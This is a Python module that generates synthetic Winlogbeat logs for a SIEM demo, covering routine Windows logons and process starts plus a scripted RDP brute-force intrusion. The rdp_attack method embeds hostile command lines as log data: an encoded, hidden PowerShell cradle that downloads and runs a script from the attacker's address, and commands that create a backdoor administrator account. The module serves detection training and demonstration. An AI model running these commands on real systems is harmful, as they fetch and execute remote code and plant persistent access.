"""The Windows part of the demo day: Winlogbeat documents from a domain controller, a file server and
workstations (logons 4624/4634/4625, privileges 4672, process creations 4688 and Sysmon 1), and the RDP
story on ``WS-FIN-07`` (see ``vigil.siem.demo``).

Documents are shaped as Winlogbeat 8 ships them to Elasticsearch (``winlog.event_data`` with the
native field names, ``event.code`` as a string), so they take the ``winlogbeat`` parser like real ones.
"""

from __future__ import annotations

import base64
import random
from collections.abc import Callable
from datetime import UTC, datetime, timedelta

import orjson

DOMAIN = "CORP"
VICTIM = "WS-FIN-07"
VICTIM_ADDRESS = "10.20.3.47"
SECURITY_PROVIDER = ("Microsoft-Windows-Security-Auditing", "{54849625-5478-4994-a5ba-3e3b0328c30d}")
SYSMON_PROVIDER = ("Microsoft-Windows-Sysmon", "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}")
SYSMON_CHANNEL = "Microsoft-Windows-Sysmon/Operational"
COMPUTERS = {"DC01": "10.20.0.10", "FS01": "10.20.0.20", VICTIM: VICTIM_ADDRESS, "WS-HR-02": "10.20.3.22",
             "WS-DEV-11": "10.20.3.31"}
STAFF = ("zhang.wei", "li.na", "wang.fang", "liu.yang", "chen.jing", "zhou.min")
# (image, command line, parent image): what people and Windows start on a normal day.
NORMAL_PROCESSES = (
    ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
     '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"', "C:\\Windows\\explorer.exe"),
    ("C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
     '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"', "C:\\Windows\\explorer.exe"),
    ("C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE",
     '"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE" /dde', "C:\\Windows\\explorer.exe"),
    ("C:\\Windows\\System32\\notepad.exe", '"C:\\Windows\\system32\\notepad.exe"', "C:\\Windows\\explorer.exe"),
    ("C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
     "C:\\Windows\\System32\\services.exe"),
    ("C:\\Windows\\System32\\taskhostw.exe", "taskhostw.exe -RegisterDevice -ProtectionStateChanged -FreeNetworkOnly",
     "C:\\Windows\\System32\\svchost.exe"),
    ("C:\\Windows\\System32\\mmc.exe", '"C:\\Windows\\system32\\mmc.exe" "C:\\Windows\\system32\\dsa.msc"',
     "C:\\Windows\\explorer.exe"),
    ("C:\\Windows\\System32\\gpupdate.exe", "gpupdate /force", "C:\\Windows\\System32\\cmd.exe"),
)
LOGON_ACTIONS = {4624: "logged-in", 4625: "logon-failed", 4634: "logged-out", 4672: "logged-in-special",
                 4688: "created-process", 4720: "added-user-account", 4732: "added-member-to-group",
                 1: "Process Create"}
MESSAGES = {4624: "An account was successfully logged on.", 4625: "An account failed to log on.",
            4634: "An account was logged off.", 4672: "Special privileges assigned to new logon.",
            4688: "A new process has been created.", 4720: "A user account was created.",
            4732: "A member was added to a security-enabled local group.", 1: "Process Create:"}

Add = Callable[[datetime, bytes], None]


class WindowsDay:
    def __init__(self, rng: random.Random, start: datetime, end: datetime, add: Add) -> None:
        self.rng = rng
        self.start, self.end = start, end
        self.add = add
        self.record_ids = {computer: rng.randint(200_000, 900_000) for computer in COMPUTERS}
        self.logon_id = 0x3D0000

    def _next_logon(self) -> str:
        self.logon_id += self.rng.randint(0x100, 0x4000)
        return hex(self.logon_id)

    def event(self, when: datetime, computer: str, event_id: int, data: dict[str, str],
              outcome: str | None = "success") -> None:
        if when > self.end:
            return  # a logoff after "now" has not happened yet
        sysmon = event_id == 1
        provider, guid = SYSMON_PROVIDER if sysmon else SECURITY_PROVIDER
        self.record_ids[computer] += 1
        fqdn = f"{computer}.corp.example"
        event: dict[str, object] = {"code": str(event_id), "provider": provider, "kind": "event",
                                    "action": LOGON_ACTIONS.get(event_id, str(event_id)),
                                    "created": (when + timedelta(seconds=1)).astimezone(UTC).isoformat()}
        if outcome:
            event["outcome"] = outcome
        document = {
            "@timestamp": when.astimezone(UTC).isoformat(timespec="milliseconds").replace("+00:00", "Z"),
            "agent": {"type": "winlogbeat", "version": "8.15.3", "name": computer},
            "ecs": {"version": "8.0.0"},
            "host": {"name": fqdn.lower(), "hostname": computer.lower(), "ip": [COMPUTERS[computer]]},
            "message": MESSAGES.get(event_id, ""),
            "event": event,
            "winlog": {
                "channel": SYSMON_CHANNEL if sysmon else "Security", "event_id": str(event_id),
                "provider_name": provider, "provider_guid": guid, "computer_name": fqdn,
                "record_id": str(self.record_ids[computer]), "api": "wineventlog",
                "keywords": [] if sysmon else ["Audit Failure" if outcome == "failure" else "Audit Success"],
                "process": {"pid": 700 if not sysmon else 2868, "thread": {"id": self.rng.randint(100, 9000)}},
                "event_data": data,
            },
        }
        self.add(when, orjson.dumps(document))

    # --- building blocks --------------------------------------------------------------------------------

    def logon(self, when: datetime, computer: str, user: str, logon_type: int, address: str) -> str:
        logon_id = self._next_logon()
        self.event(when, computer, 4624, {
            "SubjectUserSid": "S-1-5-18", "SubjectUserName": f"{computer}$", "SubjectDomainName": DOMAIN,
            "SubjectLogonId": "0x3e7", "TargetUserSid": f"S-1-5-21-1004336348-1177238915-682003330-{1100 + len(user)}",
            "TargetUserName": user, "TargetDomainName": DOMAIN, "TargetLogonId": logon_id,
            "LogonType": str(logon_type), "LogonProcessName": "User32" if logon_type in (2, 10) else "NtLmSsp",
            "AuthenticationPackageName": "Negotiate", "WorkstationName": computer,
            "ProcessName": "C:\\Windows\\System32\\svchost.exe", "IpAddress": address,
            "IpPort": str(self.rng.randint(49152, 65535))})
        return logon_id

    def failed_logon(self, when: datetime, computer: str, user: str, address: str) -> None:
        self.event(when, computer, 4625, {
            "SubjectUserSid": "S-1-0-0", "SubjectUserName": "-", "SubjectDomainName": "-", "SubjectLogonId": "0x0",
            "TargetUserSid": "S-1-0-0", "TargetUserName": user, "TargetDomainName": DOMAIN, "Status": "0xc000006d",
            "FailureReason": "%%2313", "SubStatus": "0xc000006a", "LogonType": "3", "LogonProcessName": "NtLmSsp ",
            "AuthenticationPackageName": "NTLM", "WorkstationName": "-", "IpAddress": address,
            "IpPort": str(self.rng.randint(49152, 65535))}, outcome="failure")

    def process(self, when: datetime, computer: str, user: str, logon_id: str, image: str, command: str,
                parent: str, *, sysmon: bool = True) -> None:
        pid = self.rng.randint(1000, 12000)
        self.event(when, computer, 4688, {
            "SubjectUserSid": "S-1-5-21-1004336348-1177238915-682003330-1108", "SubjectUserName": user,
            "SubjectDomainName": DOMAIN, "SubjectLogonId": logon_id, "NewProcessId": hex(pid),
            "NewProcessName": image, "TokenElevationType": "%%1936", "ProcessId": hex(self.rng.randint(800, 9000)),
            "CommandLine": command, "ParentProcessName": parent, "MandatoryLabel": "S-1-16-12288"})
        if sysmon:
            guid = f"{{9a3f1c2e-{self.rng.getrandbits(16):04x}-6958-{self.rng.getrandbits(16):04x}-0000000e0000}}"
            self.event(when, computer, 1, {
                "RuleName": "-", "UtcTime": when.astimezone(UTC).strftime("%Y-%m-%d %H:%M:%S.%f")[:-3],
                "ProcessGuid": guid, "ProcessId": str(pid), "Image": image, "CommandLine": command,
                "CurrentDirectory": f"C:\\Users\\{user}\\", "User": f"{DOMAIN}\\{user}", "LogonId": logon_id,
                "IntegrityLevel": "High" if user == "administrator" else "Medium",
                "Hashes": f"SHA256={self.rng.getrandbits(256):064X}", "ParentImage": parent,
                "ParentCommandLine": parent if " " not in parent else f'"{parent}"'}, outcome=None)

    # --- the day ----------------------------------------------------------------------------------------

    def background(self, moment: Callable[[], datetime]) -> None:
        workstations = [name for name in COMPUTERS if name.startswith("WS-")]
        for _ in range(420):
            when, user = moment(), self.rng.choice(STAFF)
            computer = self.rng.choice([*workstations, "FS01", "DC01"])
            logon_type = 2 if computer.startswith("WS-") and self.rng.random() < 0.4 else 3
            address = self.rng.choice([COMPUTERS[name] for name in workstations])
            logon_id = self.logon(when, computer, user, logon_type, address)
            if self.rng.random() < 0.7:
                self.event(when + timedelta(minutes=self.rng.randint(1, 240)), computer, 4634, {
                    "TargetUserSid": "S-1-5-21-1004336348-1177238915-682003330-1108", "TargetUserName": user,
                    "TargetDomainName": DOMAIN, "TargetLogonId": logon_id, "LogonType": str(logon_type)})
            if computer.startswith("WS-"):
                for step in range(self.rng.randint(1, 3)):
                    image, command, parent = self.rng.choice(NORMAL_PROCESSES)
                    self.process(when + timedelta(seconds=20 + step * 90), computer, user, logon_id, image, command,
                                 parent, sysmon=self.rng.random() < 0.5)
        for _ in range(40):  # the IT administrator at work: privileged logons on the servers
            when = moment()
            computer = self.rng.choice(("DC01", "FS01"))
            logon_id = self.logon(when, computer, "it.admin", 3, "10.20.3.31")
            self.event(when, computer, 4672, {"SubjectUserSid": "S-1-5-21-1004336348-1177238915-682003330-1500",
                                              "SubjectUserName": "it.admin", "SubjectDomainName": DOMAIN,
                                              "SubjectLogonId": logon_id,
                                              "PrivilegeList": "SeSecurityPrivilege\r\n\t\t\tSeBackupPrivilege"})
        for _ in range(12):  # people mistype passwords
            self.failed_logon(moment(), self.rng.choice(workstations), self.rng.choice(STAFF),
                              self.rng.choice([COMPUTERS[name] for name in workstations]))

    def rdp_attack(self, begin: datetime, attacker: str) -> datetime:
        """80 failed network logons for administrator in about four minutes, then an RDP logon and hands on
        keyboard; the time of the logon."""
        when = begin
        for _ in range(80):
            when += timedelta(seconds=self.rng.uniform(1.5, 4.0))
            self.failed_logon(when, VICTIM, "administrator", attacker)
        logon = when + timedelta(seconds=20)
        logon_id = self.logon(logon, VICTIM, "administrator", 10, attacker)
        self.event(logon, VICTIM, 4672, {"SubjectUserSid": "S-1-5-21-1004336348-1177238915-682003330-500",
                                         "SubjectUserName": "administrator", "SubjectDomainName": DOMAIN,
                                         "SubjectLogonId": logon_id,
                                         "PrivilegeList": "SeDebugPrivilege\r\n\t\t\tSeTakeOwnershipPrivilege"})
        script = f"IEX (New-Object Net.WebClient).DownloadString('http://{attacker}/a.ps1')"
        encoded = base64.b64encode(script.encode("utf-16-le")).decode()
        shell = "C:\\Windows\\System32\\cmd.exe"
        powershell = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
        steps = (
            (60, shell, '"C:\\Windows\\system32\\cmd.exe"', "C:\\Windows\\explorer.exe"),
            (95, "C:\\Windows\\System32\\whoami.exe", "whoami /all", shell),
            (130, "C:\\Windows\\System32\\net.exe", "net user svc-backup P@ssw0rd!2026 /add", shell),
            (150, "C:\\Windows\\System32\\net.exe", "net localgroup administrators svc-backup /add", shell),
            (192, powershell, f"powershell.exe -nop -w hidden -enc {encoded}", shell),
        )
        for offset, image, command, parent in steps:
            self.process(logon + timedelta(seconds=offset), VICTIM, "administrator", logon_id, image, command, parent)
        sid = "S-1-5-21-1004336348-1177238915-682003330-1120"
        self.event(logon + timedelta(seconds=131), VICTIM, 4720, {
            "TargetUserName": "svc-backup", "TargetDomainName": VICTIM, "TargetSid": sid,
            "SubjectUserSid": "S-1-5-21-1004336348-1177238915-682003330-500", "SubjectUserName": "administrator",
            "SubjectDomainName": DOMAIN, "SubjectLogonId": logon_id, "SamAccountName": "svc-backup"})
        self.event(logon + timedelta(seconds=151), VICTIM, 4732, {
            "MemberName": "-", "MemberSid": sid, "TargetUserName": "Administrators", "TargetDomainName": "Builtin",
            "TargetSid": "S-1-5-32-544", "SubjectUserSid": "S-1-5-21-1004336348-1177238915-682003330-500",
            "SubjectUserName": "administrator", "SubjectDomainName": DOMAIN, "SubjectLogonId": logon_id})
        return logon
